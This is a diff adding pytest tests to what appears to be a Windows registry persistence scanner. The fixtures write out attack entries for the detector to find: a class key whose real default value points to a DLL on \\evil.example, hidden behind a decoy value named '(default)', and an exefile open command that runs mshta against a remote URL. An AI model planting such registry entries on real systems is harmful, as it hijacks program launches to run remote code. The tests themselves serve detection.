@@ -92,6 +92,32 @@ def test_libraries_of_their_classes_are_seen() -> None:
 
 
 @pytest.mark.recorded
+@pytest.mark.parametrize("is_first", [True, False], ids=["before", "behind"])
+def test_a_value_called_default_hides_no_default_value(is_first: bool) -> None:
+    """`reg add KEY /v "(default)"` makes an ordinary value that a registry editor shows like the real one."""
+    decoy, real = {"(default)": r"C:\Windows\System32\ole32.dll"}, {"": r"\\evil.example\a\x.dll"}
+    values = decoy | real if is_first else real | decoy
+    machine = shared({CLASS: values})
+    assert dict(machine.registry.values(CLASS)) == values
+    assert listed(world.look(machine)) == {"evil.example"}
+    command = rf"HKU\{BINH}_Classes\exefile\shell\open\command"
+    opened = {"": f'mshta {URL} "%1" %*', "(default)": '"%1" %*'}
+    assert listed(world.look(shared({command: opened}))) == {"evil.example"}
+    assert listed(world.look(shared({CLASS: decoy, command: {"(default)": f"mshta {URL}"}}))) == set()
+
+
+@pytest.mark.recorded
+def test_names_of_one_byte_a_letter_are_latin_1() -> None:
+    """In Windows-1252 five of these bytes are no letter at all: one such name would end the whole key."""
+    names = {f"x{chr(one)}": f"{one}.exe" for one in range(0x80, 0x100)}
+    assert dict(shared({RUN: names}).registry.values(RUN).items()) == names
+    below = {rf"{RUN}\{name}": {"": text} for name, text in names.items() if name < "x\xc0"}
+    registry = shared(below).registry
+    assert sorted(registry.subkeys(RUN)) == sorted(name for name in names if name < "x\xc0")
+    assert registry.values(rf"{RUN}\x{chr(0x81)}") == {"": "129.exe"}
+
+
+@pytest.mark.recorded
 @pytest.mark.parametrize("content", ["", "regf", "x" * 9_000], ids=["empty", "cut off", "no hive"])
 def test_a_registry_of_theirs_that_cannot_be_read_is_named_and_nothing_is_clean(content: str) -> None:
     done = world.look(shared({}, {rf"{HOME}\NTUSER.DAT": content}))
